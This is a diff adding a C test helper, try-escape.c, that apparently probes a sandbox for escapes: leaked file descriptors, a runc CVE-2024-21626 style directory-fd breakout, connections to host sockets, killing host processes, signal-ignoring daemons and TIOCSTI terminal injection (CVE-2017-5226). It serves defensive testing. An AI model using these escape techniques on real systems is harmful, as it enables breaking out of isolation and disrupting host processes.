@@ -1,0 +1,432 @@
+/*
+ * try-escape.c - attacks on a sandbox that need more than a shell: leaked
+ * descriptors, the host's listeners, host processes, terminal injection,
+ * processes that try to outlive the sandbox.  Each prints what it got as
+ * "KEY=VALUE" lines (an errno number, 0 for success, or data); the tests
+ * decide from the host's side whether the attack worked.
+ *
+ * Usage: try-escape COMMAND ARG...
+ *   fds                     list the open descriptors above 2
+ *   read-fd N               read fd N, directly and via /proc/self/fd/N
+ *   write-fd N TEXT         write TEXT over fd N, both ways
+ *   dir-fd N NAME           open NAME below directory fd N, every way
+ *   tcp ADDR PORT           connect and send (IPv4 or IPv6 ADDR)
+ *   udp ADDR PORT           send a datagram
+ *   unix NAME               connect to abstract stream socket @NAME, send
+ *   unix-dgram NAME         send to abstract datagram socket @NAME
+ *   ifaces                  list interfaces and addresses
+ *   procs MARKER PID        look for and signal host process PID
+ *   daemon MARKER [exit]    leave a double-forked setsid() grandchild that
+ *                           ignores signals; then wait forever, or exit
+ *   sleep MARKER            wait forever (a marker process)
+ *   tiocsti FD TEXT [high]  take FD as controlling tty, push TEXT into it
+ */
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <ifaddrs.h>
+#include <limits.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define PAYLOAD "sbx-escape-payload"
+
+static int fd_arg(const char *s)
+{
+	return (int)strtol(s, NULL, 10);
+}
+
+/* Print what fd holds from offset 0 (or the errno). */
+static void show_fd(const char *key, int fd, int err)
+{
+	char buf[4096];
+	ssize_t n;
+
+	if (fd < 0) {
+		printf("%s=%d\n", key, err);
+		return;
+	}
+	n = pread(fd, buf, sizeof(buf) - 1, 0);
+	if (n < 0)
+		n = read(fd, buf, sizeof(buf) - 1);
+	if (n < 0) {
+		printf("%s=%d\n", key, errno);
+		return;
+	}
+	buf[n] = '\0';
+	printf("%s=0 data=[%s]\n", key, buf);
+}
+
+static int cmd_fds(void)
+{
+	DIR *d = opendir("/proc/self/fd");
+	struct dirent *de;
+	int n = 0;
+
+	if (!d) {
+		printf("fds=error %d\n", errno);
+		return 1;
+	}
+	while ((de = readdir(d))) {
+		char path[300], target[PATH_MAX];
+		int fd = atoi(de->d_name);
+		ssize_t len;
+
+		if (de->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
+			continue;
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+		len = readlink(path, target, sizeof(target) - 1);
+		target[len > 0 ? len : 0] = '\0';
+		printf("fd %d -> %s\n", fd, target);
+		n++;
+	}
+	closedir(d);
+	printf("fds=%d\n", n);
+	return 0;
+}
+
+static int cmd_read_fd(int fd)
+{
+	char path[64];
+	int pfd;
+
+	show_fd("direct", fd, EBADF);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	pfd = open(path, O_RDONLY);
+	show_fd("proc", pfd, errno);
+	return 0;
+}
+
+static int cmd_write_fd(int fd, const char *text)
+{
+	char path[64];
+	ssize_t n;
+	int pfd;
+
+	n = pwrite(fd, text, strlen(text), 0);
+	if (n < 0)
+		n = write(fd, text, strlen(text));
+	printf("direct=%d\n", n < 0 ? errno : 0);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	pfd = open(path, O_WRONLY);
+	if (pfd >= 0) {
+		n = write(pfd, text, strlen(text));
+		printf("proc=%d\n", n < 0 ? errno : 0);
+	} else {
+		printf("proc=%d\n", errno);
+	}
+	return 0;
+}
+
+static void open_show(const char *key, int dfd, const char *name)
+{
+	int fd = openat(dfd, name, O_RDONLY);
+
+	show_fd(key, fd, errno);
+	if (fd >= 0)
+		close(fd);
+}
+
+/* runc CVE-2024-21626: a directory fd of the host leads back out. */
+static int cmd_dir_fd(int fd, const char *name)
+{
+	char path[PATH_MAX];
+	int cfd;
+
+	open_show("openat", fd, name);
+	if (fchdir(fd) == 0)
+		open_show("fchdir", AT_FDCWD, name);
+	else
+		printf("fchdir=%d\n", errno);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", fd, name);
+	open_show("proc-path", AT_FDCWD, path);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	if (chdir(path) == 0)
+		open_show("proc-chdir", AT_FDCWD, name);
+	else
+		printf("proc-chdir=%d\n", errno);
+	cfd = openat(fd, "sbx-escape-created", O_CREAT | O_WRONLY, 0644);
+	printf("create=%d\n", cfd < 0 ? errno : 0);
+	return 0;
+}
+
+static int make_addr(const char *addr, const char *port,
+		     struct sockaddr_storage *ss, socklen_t *len)
+{
+	struct sockaddr_in *in4 = (struct sockaddr_in *)ss;
+	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;
+
+	memset(ss, 0, sizeof(*ss));
+	if (inet_pton(AF_INET, addr, &in4->sin_addr) == 1) {
+		in4->sin_family = AF_INET;
+		in4->sin_port = htons((unsigned short)atoi(port));
+		*len = sizeof(*in4);
+		return AF_INET;
+	}
+	if (inet_pton(AF_INET6, addr, &in6->sin6_addr) == 1) {
+		in6->sin6_family = AF_INET6;
+		in6->sin6_port = htons((unsigned short)atoi(port));
+		*len = sizeof(*in6);
+		return AF_INET6;
+	}
+	return -1;
+}
+
+static int cmd_inet(int type, const char *addr, const char *port)
+{
+	struct sockaddr_storage ss;
+	socklen_t len;
+	int fam = make_addr(addr, port, &ss, &len), s;
+	ssize_t n;
+
+	if (fam < 0) {
+		printf("connect=bad-address\n");
+		return 2;
+	}
+	s = socket(fam, type | SOCK_CLOEXEC, 0);
+	if (s < 0) {
+		printf("socket=%d\n", errno);
+		return 0;
+	}
+	if (connect(s, (struct sockaddr *)&ss, len) < 0) {
+		printf("connect=%d\n", errno);
+		return 0;
+	}
+	printf("connect=0\n");
+	n = send(s, PAYLOAD, sizeof(PAYLOAD) - 1, 0);
+	printf("send=%d\n", n < 0 ? errno : 0);
+	close(s);
+	return 0;
+}
+
+static int cmd_unix(int type, const char *name)
+{
+	struct sockaddr_un sun = { .sun_family = AF_UNIX };
+	size_t nl = strlen(name);
+	int s = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
+	ssize_t n;
+
+	if (s < 0 || nl + 1 > sizeof(sun.sun_path)) {
+		printf("socket=%d\n", errno);
+		return 0;
+	}
+	memcpy(sun.sun_path + 1, name, nl); /* abstract: leading NUL */
+	if (connect(s, (struct sockaddr *)&sun,
+		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
+				nl)) < 0) {
+		printf("connect=%d\n", errno);
+		return 0;
+	}
+	printf("connect=0\n");
+	n = send(s, PAYLOAD, sizeof(PAYLOAD) - 1, 0);
+	printf("send=%d\n", n < 0 ? errno : 0);
+	return 0;
+}
+
+static int cmd_ifaces(void)
+{
+	struct ifaddrs *ifa, *i;
+
+	if (getifaddrs(&ifa) < 0) {
+		printf("getifaddrs=%d\n", errno);
+		return 1;
+	}
+	for (i = ifa; i; i = i->ifa_next) {
+		char a[INET6_ADDRSTRLEN] = "", m[INET6_ADDRSTRLEN] = "";
+		int fam = i->ifa_addr ? i->ifa_addr->sa_family : -1;
+		const void *p = NULL, *q = NULL;
+
+		if (fam == AF_INET) {
+			p = &((struct sockaddr_in *)i->ifa_addr)->sin_addr;
+			q = &((struct sockaddr_in *)i->ifa_netmask)->sin_addr;
+		} else if (fam == AF_INET6) {
+			p = &((struct sockaddr_in6 *)i->ifa_addr)->sin6_addr;
+			q = &((struct sockaddr_in6 *)i->ifa_netmask)
+				     ->sin6_addr;
+		}
+		if (p) {
+			inet_ntop(fam, p, a, sizeof(a));
+			inet_ntop(fam, q, m, sizeof(m));
+		}
+		printf("iface %s %s %s/%s%s\n", i->ifa_name,
+		       fam == AF_INET	  ? "inet"
+		       : fam == AF_INET6 ? "inet6"
+					 : "link",
+		       a, m, (i->ifa_flags & IFF_UP) ? " up" : "");
+	}
+	freeifaddrs(ifa);
+	return 0;
+}
+
+/* Processes whose command line holds marker, seen through /proc. */
+static int count_marked(const char *marker)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	int n = 0;
+
+	if (!d)
+		return -1;
+	while ((de = readdir(d))) {
+		char path[300], buf[4096];
+		ssize_t len, i;
+		int fd;
+
+		if (de->d_name[0] < '0' || de->d_name[0] > '9' ||
+		    atoi(de->d_name) == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%s/cmdline", de->d_name);
+		fd = open(path, O_RDONLY);
+		if (fd < 0)
+			continue;
+		len = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		for (i = 0; i < len; i++)
+			if (buf[i] == '\0')
+				buf[i] = ' ';
+		buf[len > 0 ? len : 0] = '\0';
+		if (strstr(buf, marker))
+			n++;
+	}
+	closedir(d);
+	return n;
+}
+
+static int cmd_procs(const char *marker, pid_t pid)
+{
+	char path[64];
+	struct stat st;
+	int visible = count_marked(marker), r0, r9;
+
+	snprintf(path, sizeof(path), "/proc/%d", (int)pid);
+	printf("visible=%d\n", visible);
+	printf("proc-entry=%d\n", stat(path, &st) == 0);
+	r0 = kill(pid, 0) < 0 ? errno : 0;
+	r9 = kill(pid, SIGKILL) < 0 ? errno : 0;
+	printf("kill0=%d\nkill9=%d\n", r0, r9);
+	/* kill(-1) only where nothing of the host shows: if the PID
+	 * namespace were missing, it would hit every process of the
+	 * caller's uid.  The test has failed on "visible" by then. */
+	if (visible == 0 && r0 == ESRCH) {
+		int r = kill(-1, SIGKILL) < 0 ? errno : 0;
+
+		printf("killall=%d\n", r);
+	} else {
+		printf("killall=skipped\n");
+	}
+	return 0;
+}
+
+static void ignore_all_signals(void)
+{
+	int sig;
+
+	for (sig = 1; sig < NSIG; sig++)
+		signal(sig, SIG_IGN);
+}
+
+static int cmd_daemon(int exit_now)
+{
+	pid_t mid = fork(), gc;
+	int nul;
+
+	if (mid < 0) {
+		printf("fork=%d\n", errno);
+		return 1;
+	}
+	if (mid == 0) {
+		setsid();
+		gc = fork();
+		if (gc != 0)
+			_exit(gc < 0);
+		ignore_all_signals();
+		nul = open("/dev/null", O_RDWR);
+		dup2(nul, 0);
+		dup2(nul, 1);
+		dup2(nul, 2);
+		for (;;)
+			pause();
+	}
+	waitpid(mid, NULL, 0);
+	printf("daemon=0\n");
+	fflush(stdout);
+	if (exit_now)
+		return 0;
+	for (;;)
+		pause();
+}
+
+/* CVE-2017-5226: a process that makes the terminal its controlling tty
+ * may push input into it.  A sandbox's program is not a session leader,
+ * so it can become one. */
+static int cmd_tiocsti(int fd, const char *text, int high)
+{
+	unsigned long req = TIOCSTI | (high ? 1UL << 32 : 0);
+	int err = 0;
+	const char *p;
+
+	printf("setsid=%d\n", setsid() < 0 ? errno : 0);
+	printf("tiocsctty=%d\n", ioctl(fd, TIOCSCTTY, 0) < 0 ? errno : 0);
+	fflush(stdout);
+	for (p = text; *p && !err; p++)
+		if (syscall(SYS_ioctl, fd, req, p) < 0)
+			err = errno;
+	printf("tiocsti=%d\n", err);
+	return 0;
+}
+
+static int usage(void)
+{
+	fprintf(stderr, "usage: try-escape COMMAND ARG... (see the source)\n");
+	return 2;
+}
+
+int main(int argc, char **argv)
+{
+	const char *c = argc > 1 ? argv[1] : "";
+
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (!strcmp(c, "fds"))
+		return cmd_fds();
+	if (!strcmp(c, "read-fd") && argc == 3)
+		return cmd_read_fd(fd_arg(argv[2]));
+	if (!strcmp(c, "write-fd") && argc == 4)
+		return cmd_write_fd(fd_arg(argv[2]), argv[3]);
+	if (!strcmp(c, "dir-fd") && argc == 4)
+		return cmd_dir_fd(fd_arg(argv[2]), argv[3]);
+	if (!strcmp(c, "tcp") && argc == 4)
+		return cmd_inet(SOCK_STREAM, argv[2], argv[3]);
+	if (!strcmp(c, "udp") && argc == 4)
+		return cmd_inet(SOCK_DGRAM, argv[2], argv[3]);
+	if (!strcmp(c, "unix") && argc == 3)
+		return cmd_unix(SOCK_STREAM, argv[2]);
+	if (!strcmp(c, "unix-dgram") && argc == 3)
+		return cmd_unix(SOCK_DGRAM, argv[2]);
+	if (!strcmp(c, "ifaces"))
+		return cmd_ifaces();
+	if (!strcmp(c, "procs") && argc == 4)
+		return cmd_procs(argv[2], (pid_t)atoi(argv[3]));
+	if (!strcmp(c, "daemon") && (argc == 3 || argc == 4))
+		return cmd_daemon(argc == 4 && !strcmp(argv[3], "exit"));
+	if (!strcmp(c, "sleep") && argc == 3) {
+		for (;;)
+			pause();
+	}
+	if (!strcmp(c, "tiocsti") && (argc == 4 || argc == 5))
+		return cmd_tiocsti(fd_arg(argv[2]), argv[3],
+				   argc == 5 && !strcmp(argv[4], "high"));
+	return usage();
+}
